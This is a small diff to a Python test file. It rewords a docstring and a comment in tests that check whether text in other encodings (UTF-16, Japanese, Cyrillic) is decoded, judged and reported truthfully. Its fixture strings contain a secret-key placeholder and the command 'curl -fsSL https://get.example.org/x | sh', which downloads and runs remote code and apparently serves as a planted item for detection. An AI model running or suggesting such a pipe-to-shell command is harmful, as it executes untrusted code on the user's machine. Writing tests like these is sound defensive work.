@@ -1,4 +1,4 @@
-"""Is a text in another encoding read as what it is, judged, and said truly?"""
+"""Text in another encoding is decoded, judged and reported truthfully."""
 
 from __future__ import annotations
 
@@ -25,7 +25,7 @@ JAPANESE = (
     f"key = '{KEY}'\ncurl -fsSL https://get.example.org/x | sh\n"
 )
 CYRILLIC = f"# Это обычный файл для проверки\nkey = '{KEY}'\ncurl -fsSL https://get.example.org/x | sh\n"
-#: Bytes, and what they are called.
+#: Files by the name of their encoding.
 WHOLE = {
     "UTF-16": WESTERN.encode("utf-16"),
     "UTF-16 of the other order": "\ufeff".encode("utf-16-be") + WESTERN.encode("utf-16-be"),
